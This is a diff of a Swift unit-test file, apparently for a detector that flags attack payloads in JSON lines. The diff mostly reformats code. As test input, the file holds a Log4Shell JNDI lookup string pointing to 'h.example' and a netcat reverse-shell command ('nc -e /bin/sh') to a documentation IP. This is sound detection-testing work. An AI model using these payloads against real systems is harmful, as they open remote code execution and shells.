@@ -3,19 +3,24 @@ import Testing
 
 @testable import Detectors
 
-private func detect(_ line: String) -> String { String(decoding: line.withView { detectJSONL(line: $0) }, as: UTF8.self) }
+private func detect(_ line: String) -> String {
+  String(decoding: line.withView { detectJSONL(line: $0) }, as: UTF8.self)
+}
 
 @Suite struct DetectLineTests {
   @Test func writesWhatTheContractAsks() {
     #expect(
       detect(#"{"id":"a","text":"${jndi:ldap://h.example:389/x}"}"#)
-        == #"{"id":"a","detections":[{"kind":"log4shell","scheme":"ldap","host":"h.example","port":389,"path":"/x","leaks":[]}]}"#)
+        == #"{"id":"a","detections":[{"kind":"log4shell","scheme":"ldap","host":"h.example","port":389,"path":"/x","leaks":[]}]}"#
+    )
     #expect(
       detect(#"{"id":"b","text":"nc -e /bin/sh 198.51.100.9 4242"}"#)
         == #"{"id":"b","detections":[{"kind":"revshell","technique":"nc","host":"198.51.100.9","port":4242}]}"#)
   }
 
-  @Test(arguments: [("{}", "null"), ("", "null"), ("{\"id\":7}", "7"), ("not json", "null"), ("{\"id\":\"x\",\"text\":1}", "\"x\"")])
+  @Test(arguments: [
+    ("{}", "null"), ("", "null"), ("{\"id\":7}", "7"), ("not json", "null"), ("{\"id\":\"x\",\"text\":1}", "\"x\""),
+  ])
   func anyLineGivesAnObject(line: String, id: String) { #expect(detect(line) == "{\"id\":\(id),\"detections\":[]}") }
 
   @Test func decodeTellsTheSteps() {
